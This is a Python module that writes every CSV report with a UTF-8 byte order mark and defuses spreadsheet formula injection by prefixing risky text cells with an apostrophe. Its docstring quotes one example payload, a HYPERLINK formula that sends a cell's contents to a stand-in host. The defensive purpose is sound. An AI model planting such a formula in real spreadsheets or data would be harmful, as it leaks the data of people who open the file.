"""The one CSV writer every CSV output uses: formula cells defused, UTF-8 with a BOM.

Reports carry text that came from outside: captions, titles and credits
imported from articles and files. A spreadsheet program treats a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a tab or a
carriage return) as a formula, so a credit such as
``=HYPERLINK("http://x/?d="&A2,"Open")`` would run when a desk opens the
report. Such text cells are written with a leading ``'``, which spreadsheets
show as text and which a person reading the file can still recognise.

Spreadsheet programs guess a CSV file's encoding; without a byte order mark
many guess a legacy code page and show é, ü or Persian as mojibake. Every
file therefore starts with the UTF-8 BOM.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import IO

#: A text cell starting with one of these is read as a formula by some spreadsheet.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

BOM = "\ufeff"

#: What one cell may be: text from outside (escaped), or a value we computed.
Cell = str | int | float | None


def escape_cell(value: Cell) -> str | int | float:
    """A cell as written: text that a spreadsheet would run as a formula gets a leading '.

    Numbers we computed ourselves (counts, ids) are written as they are; only
    text can come from outside, so only text is escaped, and a negative count
    stays a number.
    """
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(target: IO[str], header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> int:
    """Write the BOM, the header and the rows to a text stream; returns the number of rows.

    The stream should not translate newlines (open files with ``newline=""``):
    the csv module writes CRLF itself, as RFC 4180 and spreadsheets expect.
    """
    target.write(BOM)
    writer = csv.writer(target)
    writer.writerow([escape_cell(name) for name in header])
    count = 0
    for row in rows:
        writer.writerow([escape_cell(cell) for cell in row])
        count += 1
    return count


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> bytes:
    """The whole file as UTF-8 bytes with the BOM: for HTTP responses and standard output."""
    buffer = io.StringIO(newline="")
    write_csv(buffer, header, rows)
    return buffer.getvalue().encode("utf-8")


def write_csv_file(path: Path, header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> int:
    """Write a CSV file at ``path``; returns the number of rows."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        return write_csv(handle, header, rows)
